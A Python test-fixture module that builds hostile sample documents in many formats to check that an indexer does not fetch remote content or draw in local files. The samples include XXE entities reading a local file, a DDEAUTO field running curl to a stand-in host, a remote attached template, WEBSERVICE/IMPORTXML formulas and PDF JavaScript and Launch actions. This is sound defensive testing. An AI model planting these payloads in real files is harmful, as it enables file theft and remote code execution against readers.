"""Documents that would make a careless reader fetch something from another machine, or copy a file
of this one into the index. Each holds a sentence of its own, so that it is seen whether it was
read nevertheless.

Archives that reach out of their folder, bombs, and damaged files are in
tests/unit/documents/test_archives.py, test_parse.py and tests/crash/docs_bad.py.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pypdf
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from tests.unit.documents.samples import archive, pdf, slides, word, workbook

REMOTE = "http://192.0.2.1"
NAMED = "https://tracker.invalid"

_OFFICE = "http://schemas.openxmlformats.org"
_LINK = f'<Relationship Id="rId{{}}" Type="{_OFFICE}/officeDocument/2006/relationships/{{}}" '
_LINK += 'Target="{}" TargetMode="External"/>'


def sentence(name: str) -> str:
    """What stands in the document `name` for its reader."""
    return f"The document {name.partition('.')[0]} was read."


def write(folder: Path, secret: Path) -> list[str]:
    """Write all of them; `secret` is a file outside that they try to draw in. Their names."""
    made = dict(_documents(secret.as_uri(), str(secret)))
    for name, content in made.items():
        data = content.encode() if isinstance(content, str) else content
        (folder / name).write_bytes(data)
    return [*made]


def _documents(uri: str, path: str) -> Iterator[tuple[str, str | bytes]]:
    for make in (_pages, _markup, _word, _office, _open_documents, _texts, _pdf, _mails):
        yield from make(uri, path)


# --- pages ----------------------------------------------------------------------------


def _pages(uri: str, path: str) -> Iterator[tuple[str, str]]:
    yield (
        "links.md",
        f"# {sentence('links')}\n\n![]({REMOTE}/a.png) ![]({uri}) <img src='{NAMED}/b.gif'>\n"
        f"<iframe src='{uri}'></iframe>\n\n[a]({uri}) <{uri}> ![][r]\n\n[r]: {NAMED}/c.svg\n",
    )
    yield (
        "links.html",
        f"<html><head><base href='{REMOTE}/'><link rel=stylesheet href='{NAMED}/a.css'>"
        f"<meta http-equiv=refresh content='0;url={REMOTE}'><script src='{REMOTE}/a.js'></script>"
        f"<style>@import '{REMOTE}/b.css'; p {{background: url({NAMED}/c.png)}}</style></head>"
        f"<body><p>{sentence('links')}</p><img src='a.png' srcset='{NAMED}/2x.png 2x'>"
        f"<iframe src='{uri}'></iframe><object data='{uri}'></object><embed src='{uri}'>"
        f"<!--#include file='{path}' --><img src='\\\\192.0.2.1\\share\\a.png'>"
        f"<video src='{REMOTE}/v.mp4'></video></body></html>",
    )
    yield (
        "dtd.xhtml",
        f'<?xml version="1.0"?><!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" '
        f'"{REMOTE}/xhtml1.dtd" [<!ENTITY leak SYSTEM "{uri}">]>'
        f'<html xmlns="http://www.w3.org/1999/xhtml"><body><p>{sentence("dtd")}</p>'
        f"<p>&leak;</p></body></html>",
    )


def _entities(uri: str) -> str:
    """A DTD that fetches one from elsewhere, and draws in a file."""
    return (
        f'<!DOCTYPE a SYSTEM "{REMOTE}/a.dtd" [<!ENTITY leak SYSTEM "{uri}">'
        f'<!ENTITY % more SYSTEM "{NAMED}/more.dtd"> %more;]>'
    )


def _markup(uri: str, path: str) -> Iterator[tuple[str, str]]:
    head = '<?xml version="1.0"?>'
    yield "entity.xml", f"{head}{_entities(uri)}<a><b>{sentence('entity')}</b><b>&leak;</b></a>"
    yield (
        "stylesheet.xml",
        f'{head}<?xml-stylesheet type="text/xsl" href="{REMOTE}/a.xsl"?>'
        f'<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        f'xsi:noNamespaceSchemaLocation="{NAMED}/a.xsd"><b>{sentence("stylesheet")}</b></a>',
    )
    yield (
        "xinclude.xml",
        f'{head}<a xmlns:xi="http://www.w3.org/2001/XInclude"><b>{sentence("xinclude")}</b>'
        f'<xi:include href="{uri}" parse="text"/><xi:include href="{REMOTE}/b.xml"/></a>',
    )
    yield (
        "drawing.svg",
        f'{head}{_entities(uri)}<svg xmlns="http://www.w3.org/2000/svg" '
        f'xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="{REMOTE}/a.png"/>'
        f'<use href="{uri}#a"/><text>{sentence("drawing")} &leak;</text></svg>',
    )


# --- office ---------------------------------------------------------------------------

Change = Callable[[str], str]


def _changed(package: bytes, changes: dict[str, Change | str]) -> bytes:
    """A ZIP with some members changed, or added."""
    with zipfile.ZipFile(io.BytesIO(package)) as opened:
        members = {name: opened.read(name) for name in opened.namelist()}
    for name, change in changes.items():
        before = members.get(name, b"").decode()
        members[name] = (change if isinstance(change, str) else change(before)).encode()
    return archive(**{name.replace("/", "__"): data for name, data in members.items()})


def _with(link: str) -> Change:
    return lambda xml: xml.replace("</Relationships>", f"{link}</Relationships>")


def _before(end: str, added: str) -> Change:
    return lambda xml: xml.replace(end, added + end)


def _doctype(uri: str, end: str) -> Change:
    """The DTD after the declaration, and its entity before a tag's end."""
    return lambda xml: xml.replace("?>", f"?>{_entities(uri)}", 1).replace(end, f"&leak;{end}", 1)


def _word(uri: str, path: str) -> Iterator[tuple[str, bytes]]:
    relations, body = "word/_rels/document.xml.rels", "word/document.xml"

    def page(name: str) -> bytes:
        return word([("Normal", sentence(name))])

    drawing = f"{_OFFICE}/drawingml/2006"
    picture = (
        f'<w:p><w:r><w:drawing><wp:inline xmlns:wp="{drawing}/wordprocessingDrawing">'
        '<wp:extent cx="9" cy="9"/><wp:docPr id="1" name="a"/><a:graphic '
        f'xmlns:a="{drawing}/main"><a:graphicData uri="{drawing}/picture">'
        f'<pic:pic xmlns:pic="{drawing}/picture"><pic:nvPicPr><pic:cNvPr id="0" name="a"/>'
        "<pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip "
        f'xmlns:r="{_OFFICE}/officeDocument/2006/relationships" r:link="rId90"/></pic:blipFill>'
        "<pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )
    field = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{}</w:instrText>'
    field += '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    yield (
        "image.docx",
        _changed(
            page("image"),
            {
                relations: _with(_LINK.format(90, "image", f"{REMOTE}/a.png")),
                body: _before("<w:sectPr", picture),
            },
        ),
    )
    yield (
        "template.docx",
        _changed(
            page("template"),
            {
                "word/_rels/settings.xml.rels": '<?xml version="1.0"?><Relationships '
                f'xmlns="{_OFFICE}/package/2006/relationships">'
                + _LINK.format(1, "attachedTemplate", f"{REMOTE}/evil.dotm")
                + "</Relationships>",
                "word/settings.xml": _before(
                    "</w:settings>",
                    '<w:attachedTemplate xmlns:r="'
                    f'{_OFFICE}/officeDocument/2006/relationships" r:id="rId1"/>',
                ),
            },
        ),
    )
    yield (
        "chunk.docx",
        _changed(
            page("chunk"),
            {
                relations: _with(_LINK.format(91, "aFChunk", uri)),
                body: _before(
                    "<w:sectPr",
                    '<w:altChunk xmlns:r="'
                    f'{_OFFICE}/officeDocument/2006/relationships" r:id="rId91"/>'
                    + field.format(f'INCLUDETEXT "{uri}"')
                    + field.format(f'DDEAUTO "cmd" "curl {REMOTE}"'),
                ),
            },
        ),
    )
    yield "entity.docx", _changed(page("entity"), {body: _doctype(uri, "</w:t>")})


def _office(uri: str, path: str) -> Iterator[tuple[str, bytes]]:
    deck = slides(("Title", sentence("media"), ""))
    link = _LINK.format(90, "video", f"{REMOTE}/a.mp4") + _LINK.format(91, "hyperlink", uri)
    yield "media.pptx", _changed(deck, {"ppt/slides/_rels/slide1.xml.rels": _with(link)})
    deck = slides(("Title", sentence("entity"), ""))
    yield "entity.pptx", _changed(deck, {"ppt/slides/slide1.xml": _doctype(uri, "</a:t>")})
    sheet = workbook(a=[[sentence("formula")], [f'=WEBSERVICE("{REMOTE}")'], [f"='{path}'!A1"]])
    link = _LINK.format(90, "externalLinkPath", uri) + _LINK.format(91, "image", f"{REMOTE}/a")
    yield "formula.xlsx", _changed(sheet, {"xl/_rels/workbook.xml.rels": _with(link)})
    sheet = workbook(a=[[sentence("entity")]])
    yield "entity.xlsx", _changed(sheet, {"xl/sharedStrings.xml": _doctype(uri, "</t>")})


# --- OpenDocument, EPUB ---------------------------------------------------------------

_OASIS = "urn:oasis:names:tc:opendocument:xmlns"
_NAMES = (
    f'xmlns:office="{_OASIS}:office:1.0" xmlns:text="{_OASIS}:text:1.0" '
    f'xmlns:draw="{_OASIS}:drawing:1.0" xmlns:table="{_OASIS}:table:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.2"'
)


def _open_document(kind: str, doctype: str, body: str) -> bytes:
    media = f"application/vnd.oasis.opendocument.{kind}"
    manifest = (
        f'<?xml version="1.0"?><manifest:manifest xmlns:manifest="{_OASIS}:manifest:1.0">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{media}"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        '<manifest:file-entry manifest:full-path="styles.xml" manifest:media-type="text/xml"/>'
        "</manifest:manifest>"
    )
    content = (
        f'<?xml version="1.0"?>{doctype}<office:document-content {_NAMES}><office:body>'
        f"<office:{kind}>{body}</office:{kind}></office:body></office:document-content>"
    )
    parts = "<office:font-face-decls/><office:styles/><office:automatic-styles/>"
    styles = f"<office:document-styles {_NAMES}>{parts}</office:document-styles>"
    members = {"mimetype": media, "content.xml": content, "styles.xml": styles}
    return archive(**members, **{"META-INF__manifest.xml": manifest})


def _open_documents(uri: str, path: str) -> Iterator[tuple[str, bytes]]:
    linked = (
        f'<draw:frame><draw:image xlink:href="{REMOTE}/a.png"/></draw:frame>'
        f'<draw:frame><draw:object xlink:href="{uri}"/></draw:frame>'
        f'<text:section text:name="a"><text:section-source xlink:href="{uri}"/></text:section>'
    )
    paragraph = "<text:p>{}</text:p>"
    yield "linked.odt", _open_document("text", "", paragraph.format(sentence("linked")) + linked)
    text = paragraph.format(sentence("entity") + " &leak;")
    yield "entity.odt", _open_document("text", _entities(uri), text)
    row = "<table:table><table:table-row><table:table-cell>{}</table:table-cell>"
    row += "</table:table-row></table:table>"
    yield "entity.ods", _open_document("spreadsheet", _entities(uri), row.format(text))
    page = (
        f'<?xml version="1.0"?>{_entities(uri)}<html xmlns="http://www.w3.org/1999/xhtml"><body>'
        f"<p>{sentence('book')} {{}}</p><img src='{REMOTE}/a.png'/><img src='{uri}'/></body></html>"
    )
    package = (
        '<?xml version="1.0"?><package xmlns="http://www.idpf.org/2007/opf" version="2.0" '
        'unique-identifier="i"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>b'
        '</dc:title><dc:identifier id="i">i</dc:identifier></metadata><manifest><item id="p" '
        'href="p.xhtml" media-type="application/xhtml+xml"/></manifest><spine><itemref idref="p"/>'
        "</spine></package>"
    )
    container = (
        '<?xml version="1.0"?><container version="1.0" '
        'xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile '
        'full-path="b.opf" media-type="application/oebps-package+xml"/></rootfiles></container>'
    )
    members = {"mimetype": "application/epub+zip", "META-INF__container.xml": container}
    yield "book.epub", archive(**members, **{"b.opf": package, "p.xhtml": page.format("")})


# --- marked-up text -------------------------------------------------------------------


def _texts(uri: str, path: str) -> Iterator[tuple[str, str]]:
    yield (
        "linked.rtf",
        rf"{{\rtf1\ansi {sentence('linked')}\par"
        rf'{{\field{{\*\fldinst INCLUDEPICTURE "{REMOTE}/a.png" \\d}}{{\fldrslt}}}}'
        rf'{{\field{{\*\fldinst INCLUDETEXT "{path}"}}{{\fldrslt}}}}'
        rf"{{\object\objautlink\objupdate{{\*\objclass htmlfile}}{{\*\objdata 0105}}"
        rf"{{\result}}}}{{\*\template {REMOTE}/evil.dotm}}}}",
    )
    yield (
        "include.org",
        f'* {sentence("include")}\n\n#+INCLUDE: "{path}"\n#+SETUPFILE: {REMOTE}/a.org\n'
        f"[[{uri}]] [[{REMOTE}/a.png]]\n#+begin_src sh :results output\ncurl {REMOTE}\n#+end_src\n",
    )
    yield (
        "include.rst",
        f"{sentence('include')}\n\n.. include:: {path}\n\n.. literalinclude:: {path}\n\n"
        f".. raw:: html\n   :file: {path}\n\n.. raw:: html\n   :url: {REMOTE}/a.html\n\n"
        f".. image:: {REMOTE}/a.png\n",
    )
    yield "table.rst", f"{sentence('table')}\n\n.. csv-table::\n   :file: {path}\n"
    yield (
        "shortcut.url",
        f"[InternetShortcut]\nURL={REMOTE}/\nIconFile={uri}\nComment={sentence('shortcut')}\n",
    )
    yield "formula.csv", f'text,formula\n{sentence("formula")},"=IMPORTXML(""{REMOTE}"",""a"")"\n'


# --- PDF, mail ------------------------------------------------------------------------


def _pdf(uri: str, path: str) -> Iterator[tuple[str, bytes]]:
    writer = pypdf.PdfWriter()
    writer.append(pypdf.PdfReader(io.BytesIO(pdf(sentence("actions")))))
    writer.add_attachment("attached.txt", b"An attachment of a PDF.")
    file = TextStringObject(path)
    actions = {
        "JavaScript": {"/JS": TextStringObject(f"app.launchURL('{REMOTE}')")},
        "URI": {"/URI": TextStringObject(REMOTE)},
        "Launch": {"/F": file},
        "GoToR": {"/F": file, "/D": TextStringObject("a")},
        "ImportData": {"/F": file},
        "SubmitForm": {"/F": TextStringObject(NAMED)},
    }
    for name, entries in actions.items():
        action = DictionaryObject({NameObject("/S"): NameObject(f"/{name}")})
        action.update({NameObject(key): value for key, value in entries.items()})
        place = NameObject("/OpenAction" if name == "Launch" else f"/Action{name}")
        writer.root_object[place] = action
    buffer = io.BytesIO()
    writer.write(buffer)
    yield "actions.pdf", buffer.getvalue()


def _mails(uri: str, path: str) -> Iterator[tuple[str, str]]:
    yield (
        "images.eml",
        "From: a@kb.example\nTo: b@kb.example\nSubject: Images\nMIME-Version: 1.0\n"
        "Content-Type: multipart/mixed; boundary=x\n\n--x\nContent-Type: text/html\n\n"
        f"<p>{sentence('images')}</p><img src='{REMOTE}/pixel.gif'><img src='{NAMED}/p.gif'>"
        f"<iframe src='{uri}'></iframe>\n--x\n"
        f'Content-Type: message/external-body; access-type=URL; URL="{REMOTE}/a.txt"\n\n'
        "Content-Type: text/plain\n\n--x\n"
        f'Content-Type: message/external-body; access-type=local-file; name="{path}"\n\n'
        "Content-Type: text/plain\n\n--x--\n",
    )
